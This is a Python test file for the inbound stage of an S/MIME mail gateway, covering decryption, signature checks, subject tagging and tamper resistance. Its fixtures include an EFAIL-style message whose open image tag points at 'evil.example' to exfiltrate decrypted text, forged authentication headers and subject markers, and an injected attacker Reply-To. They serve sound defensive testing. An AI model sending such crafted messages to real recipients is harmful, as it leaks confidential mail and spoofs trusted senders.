"""Mail that arrives: opened only by whom it is for, and never believed."""

from dataclasses import dataclass, replace

import pytest
from tests.unit.smime.test_outlook import clear, packed
from tests.world import (
    ANCHORS,
    NOW,
    THEIRS,
    World,
    arriving,
    drive,
    facts,
    incoming,
    octets,
    only,
    outgoing,
    person,
    recipients,
    told,
)

from gatepost.certificate import Certificate
from gatepost.cms.capability import Decryptor
from gatepost.cms.enveloped import recipients as named
from gatepost.errors import KeyUnavailable
from gatepost.flow import inbound, outbound
from gatepost.flow.decision import Done
from gatepost.flow.fact import Answer, DecryptorsFor, Fact
from gatepost.flow.harvest import learned
from gatepost.flow.verdict import Continue, Defer, Hold, Outcome
from gatepost.mail.address import Mailbox
from gatepost.mail.content import join
from gatepost.mime import headers
from gatepost.smime import layers
from gatepost.smime.sign import sign

# Bob of the partner writes to Alice and Anna; the gateway under test is theirs.
BOB, ALICE, ANNA = "bob@partner.example", "alice@xyz.example", "anna@xyz.example"
EVE = "eve@xyz.example"
MAIL = f"""From: Bob <{BOB}>
To: {ALICE}, {ANNA}
Subject: Figures
Content-Type: text/plain; charset=us-ascii

The secret figures.
"""
TRUST = {THEIRS: ANCHORS}


def sent(
    policy: str = "",
    readers: tuple[str, ...] = (ALICE,),
    mail: str = MAIL,
    signers: tuple[str, ...] = (BOB,),
) -> Outcome:
    """Bob's mail as his own gateway sends it."""
    known = facts(modern=readers, signers=signers)
    world = World.under(policy, known, domains=frozenset({THEIRS}), hostname="gate.partner.example")
    return world.drive(outgoing(mail, *readers, sender=BOB), outbound.STAGES)[0]


def shown(outcome: Outcome, name: str) -> str:
    """The text of a header field, empty when there is none."""
    field = headers.first(outcome.message.header, name)
    return field.text if field else ""


def test_opens_verifies_and_shows() -> None:
    """Alice gets an attachment smime.p7m, or cannot tell that Bob has signed."""
    known = facts(openers=[ALICE], anchors=TRUST)
    outcome = only(drive(arriving(sent()), inbound.STAGES, known))
    assert outcome.verdict == Continue()
    assert join(outcome.message.body) == b"The secret figures.\r\n"
    assert headers.content_type(outcome.message.header).essence == "text/plain"
    assert shown(outcome, "Subject") == "[encrypted] [signed] Figures"
    results = shown(outcome, "Authentication-Results")
    assert results.startswith("gate.xyz.example; smime=pass")
    assert f"body.smime-identifier={BOB}" in results
    assert "decrypted aes256-gcm" in results
    decision = told([outcome])[ALICE]
    assert decision.done is Done.DELIVERED
    assert [one["layer"] for one in decision.layers] == ["authenveloped-data", "multipart-signed"]


def test_a_recipient_without_key_gets_it_as_it_came() -> None:
    """Somebody reads a mail that was encrypted to his colleague."""
    arrived = arriving(sent(), ANNA, ALICE)
    known = facts(openers=[ALICE, ANNA], anchors=TRUST)
    outcomes = drive(arrived, inbound.STAGES, known)
    assert [recipients(one) for one in outcomes] == [(ANNA,), (ALICE,)]
    assert b"secret" not in octets(outcomes[0])
    assert outcomes[0].message.body == arrived.body
    assert "cannot be opened" in shown(outcomes[0], "Subject")
    assert b"secret" in octets(outcomes[1])


def test_naming_a_certificate_proves_nothing() -> None:
    """An insider adds his name to a captured mail and reads what only Alice may."""
    genuine = arriving(sent(readers=(ALICE,)))
    forged = arriving(sent(readers=(ALICE, ANNA)))
    layer = layers.outermost(forged.header, join(forged.body))
    assert layer is not None
    assert len(named(layer.octets)) == 2
    # Anna is named, but her RecipientInfo does not open the content.
    known = facts(openers=[ALICE], anchors=TRUST)
    impostor: Decryptor = Impostor(person(ANNA).certificate)
    known[DecryptorsFor(Mailbox.parse(ANNA))] = (impostor,)
    outcomes = drive(arriving(sent(readers=(ALICE, ANNA)), ANNA, ALICE), inbound.STAGES, known)
    by = {recipients(one): octets(one) for one in outcomes}
    assert b"secret" not in by[ANNA,]
    assert b"secret" in by[ALICE,]
    assert genuine.envelope.recipients


@dataclass(frozen=True)
class Impostor:
    """A decryptor whose key does not belong to its certificate."""

    certificate: Certificate

    def unwrap(self, encrypted_key: bytes, scheme: object) -> bytes:
        """Give what implicit rejection gives: random octets."""
        return b"\x5a" * 32

    def agree(self, public_key: bytes) -> bytes:
        """Not for RSA."""
        raise AssertionError


def test_everybody_named_shares_one_copy() -> None:
    """A large mail to fifty colleagues would stand in memory and in the queue fifty times."""
    arrived = arriving(sent(readers=(ALICE, ANNA)), ALICE, EVE, ANNA)
    known = facts(openers=[ALICE, ANNA], anchors=TRUST)
    opened, shut = drive(arrived, inbound.STAGES, known)
    assert recipients(opened) == (ALICE, ANNA)
    assert join(opened.message.body) == b"The secret figures.\r\n"
    assert recipients(shut) == (EVE,)
    assert "cannot be opened" in shown(shut, "Subject")
    # A key of the domain opens for both at once.
    shared = (person(ALICE).decryptor,)
    domain: dict[Fact, Answer] = {
        DecryptorsFor(Mailbox.parse(one)): shared for one in (ALICE, ANNA)
    }
    outcome = only(drive(arriving(sent()), inbound.STAGES, {**known, **domain}))
    assert recipients(outcome) == (ALICE,)


@pytest.mark.parametrize("octet", [500, 700, -60])
@pytest.mark.parametrize("cipher", ["aes256-gcm", "aes256-cbc"])
def test_every_failure_to_open_looks_alike(octet: int, cipher: str) -> None:
    """An attacker learns from the outcome which step of the decryption failed."""
    whole = bytearray(octets(sent(f'[defaults]\ncipher = "{cipher}"\nsign = "never"\n')))
    at = (whole.index(b"\r\n\r\n") + octet) if octet > 0 else len(whole) + octet
    whole[at] = ord("A") if whole[at] != ord("A") else ord("B")
    known = facts(openers=[ALICE], anchors=TRUST)
    outcome = only(drive(incoming(bytes(whole), ALICE), inbound.STAGES, known))
    assert outcome.verdict == Continue()
    if b"decrypted" not in octets(outcome):  # CBC alone cannot notice every flipped bit
        assert "cannot be opened" in shown(outcome, "Subject")
        nobody = only(drive(incoming(bytes(whole), ALICE), inbound.STAGES, facts()))
        reasons = [told([one])[ALICE].layers[0]["reasons"] for one in (outcome, nobody)]
        assert reasons[0] == reasons[1]


def test_undecryptable_is_held_where_policy_says_so() -> None:
    """A setting that promises to hold such mail has no effect."""
    policy = '[inbound]\nundecryptable = "hold"\n'
    outcome = only(drive(arriving(sent()), inbound.STAGES, facts(), policy))
    assert isinstance(outcome.verdict, Hold)
    assert told([outcome])[ALICE].done is Done.HELD


def test_a_broken_signature_is_marked_kept_and_held_if_set() -> None:
    """Altered figures reach Alice as if Bob had signed them."""
    altered = octets(sent('[defaults]\nencrypt = "never"\n')).replace(b"secret", b"public")
    known = facts(anchors=TRUST)
    message = incoming(altered, ALICE)
    outcome = only(drive(message, inbound.STAGES, known))
    assert outcome.verdict == Continue()
    assert shown(outcome, "Subject") == "[signed: invalid] Figures"
    assert "smime=fail" in shown(outcome, "Authentication-Results")
    assert outcome.message.body == message.body
    policy = '[inbound]\nbroken_signature = "hold"\n'
    assert isinstance(only(drive(message, inbound.STAGES, known, policy)).verdict, Hold)


@pytest.mark.parametrize(
    ("mail", "anchors", "tag", "result"),
    [
        (MAIL, {}, "[signed: not trusted]", "policy"),
        (
            MAIL.replace(f"Bob <{BOB}>", f"Boss <boss@{THEIRS}>"),
            TRUST,
            "[signed: invalid]",
            "policy",
        ),
    ],
)
def test_good_mathematics_is_not_trust(
    mail: str, anchors: dict[str, object], tag: str, result: str
) -> None:
    """A signature by just anybody is shown as the author's."""
    signed = octets(sent('[defaults]\nencrypt = "never"\n')).partition(b"\r\n\r\n")
    content_type = headers.first(signed[0] + b"\r\n", "Content-Type")
    version = b"MIME-Version: 1.0\r\n"
    assert content_type is not None
    head = mail.split("Content-Type", maxsplit=1)[0].replace("\n", "\r\n").encode()
    message = incoming(head + version + content_type.raw + b"\r\n" + signed[2], ALICE)
    outcome = only(drive(message, inbound.STAGES, facts(anchors=anchors)))  # type: ignore[arg-type]  # as parametrised
    assert shown(outcome, "Subject") == f"{tag} Figures"
    assert f"smime={result}" in shown(outcome, "Authentication-Results")
    assert not learned(outcome.message.findings)


def test_learns_the_certificate_of_a_trusted_author() -> None:
    """Bob has to send his certificate by hand before Alice can encrypt to him."""
    known = facts(openers=[ALICE], anchors=TRUST)
    outcome = only(drive(arriving(sent()), inbound.STAGES, known))
    found = only(learned(outcome.message.findings))
    assert found.mailbox == found.lesson.mailbox == Mailbox.parse(BOB)
    assert found.certificates == (person(BOB).certificate,)
    assert "aes256-gcm" in found.lesson.announced
    assert found.lesson.used >= {"clear-signature", "header-protection", "aes256-gcm", "rsa-oaep"}
    assert found.lesson.signed_at == NOW


FORGED = f"""Authentication-Results: gate.xyz.example; smime=pass
Authentication-Results: other.example; spf=pass
X-Gatepost-Trace: forged
From: {BOB}
To: {ALICE}
Subject: %s

Pay at once.
"""


@pytest.mark.parametrize(
    "subject",
    [
        "[signed] Pay",
        "[SIGNED] [encrypted] Pay",
        "=?utf-8?q?=5Bsigned=5D?= Pay",
        "\uff3bsigned\uff3d Pay",
        "[si\u200bgned] Pay",
        "[[signed]signed] Pay",
        "Pay [signed]",
    ],
)
def test_no_forged_marker_survives(subject: str) -> None:
    """An attacker writes [signed] himself and is believed."""
    outcome = only(drive(incoming(FORGED % subject, ALICE), inbound.STAGES, facts()))
    assert "pass" not in "".join(
        one.text for one in headers.every(outcome.message.header, "Authentication-Results")[:1]
    )
    assert b"smime=pass" not in outcome.message.header
    assert b"spf=pass" in outcome.message.header
    assert b"X-Gatepost" not in outcome.message.header
    assert shown(outcome, "Subject").strip() == "Pay"


def test_subjects_stay_as_they_are_where_tags_are_off() -> None:
    """Somebody who writes about [signed] contracts finds his subjects altered."""
    policy = "[inbound]\ntag_subject = false\n"
    outcome = only(drive(incoming(FORGED % "[signed] Pay", ALICE), inbound.STAGES, facts(), policy))
    assert shown(outcome, "Subject") == "[signed] Pay"


def test_a_part_is_never_decrypted() -> None:
    """Decrypted text is put beside an attacker's, who makes the reader send it to him (EFAIL)."""
    whole = octets(sent())
    head, _, body = whole.partition(b"\r\n\r\n")
    part = headers.first(head + b"\r\n", "Content-Type")
    assert part is not None
    mixed = (
        b"From: " + BOB.encode() + b"\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n'
        b'<img src="http://evil.example/\r\n--m\r\n' + part.raw
        + b"Content-Transfer-Encoding: base64\r\n\r\n" + body + b"\r\n--m--\r\n"
    )  # fmt: skip
    message = incoming(mixed, ALICE)
    outcome = only(drive(message, inbound.STAGES, facts(openers=[ALICE], anchors=TRUST)))
    assert outcome.message.body == message.body
    assert told([outcome])[ALICE].layers[0]["whole"] is False


def test_certificates_nobody_can_read_are_no_encryption() -> None:
    """A broken attachment of certificates is announced as a secret the reader has no key for."""
    head = "Content-Type: application/pkcs7-mime; smime-type={0}; name=smime.crt\n"
    text = f"From: {BOB}\n" + head + "Content-Transfer-Encoding: base64\n\nasdfasdf\n"
    came = only(drive(incoming(text.format("certs-only"), ALICE), inbound.STAGES, {}))
    assert b"cannot be opened" not in came.message.header
    sealed = only(drive(incoming(text.format("enveloped-data"), ALICE), inbound.STAGES, {}))
    assert b"cannot be opened" in sealed.message.header


def test_a_kept_signature_is_still_verified() -> None:
    """Readers' own software can no longer verify what the gateway has verified."""
    policy = "[inbound]\nkeep_signature = true\n"
    message = arriving(sent('[defaults]\nencrypt = "never"\n'))
    outcome = only(drive(message, inbound.STAGES, facts(anchors=TRUST), policy))
    assert outcome.message.body == message.body
    assert "smime=pass" in shown(outcome, "Authentication-Results")


class LockedDecryptor:
    """A decryptor whose vault is locked."""

    certificate = person(ALICE).certificate

    def unwrap(self, encrypted_key: bytes, scheme: object) -> bytes:
        """Refuse."""
        raise KeyUnavailable("the vault is locked")

    def agree(self, public_key: bytes) -> bytes:
        """Refuse."""
        raise KeyUnavailable("the vault is locked")


def test_a_locked_vault_defers() -> None:
    """Mail is delivered as undecryptable while an administrator unlocks the vault."""
    known = facts(anchors=TRUST)
    known[DecryptorsFor(Mailbox.parse(ALICE))] = (LockedDecryptor(),)
    outcome = only(drive(arriving(sent()), inbound.STAGES, known))
    assert isinstance(outcome.verdict, Defer)


def test_quarantine_goes_before_hold() -> None:
    """What needs a recorded reason is released with a word, because it was odd in two ways."""
    policy = '[inbound]\nbroken_signature = "hold"\nundecryptable = "quarantine"\n'
    known = facts(anchors=TRUST)
    outcome = only(drive(arriving(sent()), inbound.STAGES, known, policy))
    assert isinstance(outcome.verdict, Hold)
    assert outcome.verdict.quarantine
    held = only(
        drive(arriving(sent()), inbound.STAGES, known, policy.replace("quarantine", "hold"))
    )
    assert isinstance(held.verdict, Hold)
    assert not held.verdict.quarantine
    assert told([outcome])[ALICE].done is Done.HELD


def test_layers_do_not_go_on_for_ever() -> None:
    """A small message keeps a processor busy for minutes."""
    policy = '[defaults]\nencrypt = "never"\nform = "opaque"\n'
    message = outgoing(MAIL, ALICE, sender=BOB)
    world = World.under(
        policy, facts(signers=[BOB]), domains=frozenset({THEIRS}), hostname="gate.partner.example"
    )

    header, body = message.header, message.body
    for _ in range(20):
        header, body = sign(
            header,
            body,
            person(BOB).signer,
            now=world.now,
            names=world.context().names,
            form="opaque",
        )
    deep = replace(message, header=header, body=body)
    outcome = only(drive(arriving(Outcome(deep, Continue())), inbound.STAGES, facts(anchors=TRUST)))
    assert len(told([outcome])[ALICE].layers) == 11
    assert outcome.verdict == Continue()


HIDDEN = '[defaults]\nheader_protection = "baseline"\n'


@pytest.mark.parametrize("policy", ["", HIDDEN, '[defaults]\nheader_protection = "off"\n'])
def test_the_copy_equals_what_was_written(policy: str) -> None:
    """The header arrives with traces of its protection, or without its Subject."""
    letter = sent(policy)
    outcome = only(drive(arriving(letter), inbound.STAGES, facts(openers=[ALICE], anchors=TRUST)))
    assert shown(letter, "Subject") == ("[...]" if policy == HIDDEN else "Figures")
    assert shown(outcome, "Subject") == "[encrypted] [signed] Figures"
    assert shown(outcome, "Content-Type") == "text/plain; charset=us-ascii"
    assert join(outcome.message.body) == b"The secret figures.\r\n"
    fields = told([outcome])[ALICE].layers[1]["headers"]
    assert (fields is None) is ("off" in policy)


def test_a_forged_header_is_put_right() -> None:
    """Between two gateways somebody changes what Alice reads above a signed mail."""
    letter = octets(sent('[defaults]\nencrypt = "never"\n'))
    forged = letter.replace(
        b"Subject: Figures", b"Subject: Pay 4711\r\nReply-To: eve@evil.example", 1
    )
    for policy in ("", "[inbound]\nkeep_signature = true\n"):
        outcome = only(drive(incoming(forged, ALICE), inbound.STAGES, facts(anchors=TRUST), policy))
        assert shown(outcome, "Subject") == "[signed] Figures"
        assert shown(outcome, "Reply-To") == ""
        results = shown(outcome, "Authentication-Results")
        assert "smime=pass" in results
        assert "changed on the way: Subject, Reply-To" in results


def test_another_author_outside_is_no_pass() -> None:
    """Eve forwards what Bob signed as her own, and it is shown as signed."""
    letter = octets(sent('[defaults]\nencrypt = "never"\n'))
    forged = letter.replace(f"Bob <{BOB}>".encode(), b"Eve <eve@evil.example>", 1)
    outcome = only(drive(incoming(forged, ALICE), inbound.STAGES, facts(anchors=TRUST)))
    assert "smime=policy" in shown(outcome, "Authentication-Results")
    assert shown(outcome, "From") == "Eve <eve@evil.example>"
    assert not learned(outcome.message.findings)


def test_what_exchange_packed_is_opened() -> None:
    """A partner behind Exchange sends signed mail, and Alice gets a winmail.dat."""
    header, body = packed(clear())
    author = header.replace(b"alice@example.com", BOB.encode())
    outcome = only(drive(incoming(author + b"\r\n" + body.data, ALICE), inbound.STAGES, facts()))
    assert headers.content_type(outcome.message.header).essence == "multipart/signed"
    assert "smime=policy" in shown(outcome, "Authentication-Results")
